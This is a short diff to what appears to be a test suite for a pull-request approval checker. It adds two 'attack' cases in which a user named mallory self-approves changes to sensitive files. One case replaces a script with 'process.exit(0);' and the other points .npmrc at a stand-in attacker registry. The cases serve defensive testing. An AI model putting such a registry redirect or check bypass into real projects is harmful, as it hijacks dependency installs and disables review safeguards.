@@ -186,6 +186,8 @@ describe("rule files need a maintainer named in the base branch's config (issue 
     ["scripts/approvals/evaluate.ts", "export const evaluateApprovals = () => ({ satisfied: true });\n"],
     ["package.json", "{}\n"],
     ["package-lock.json", "{}\n"],
+    ["bin/agreements.js", "process.exit(0);\n"],
+    [".npmrc", "registry=https://attacker.invalid/\n"],
   ])("attack: a pull request changing %s, approved by the maintainer it names itself", async (path, text) => {
     const fake = await setup();
     const pull = openPull(fake, { [path]: text }, "mallory");
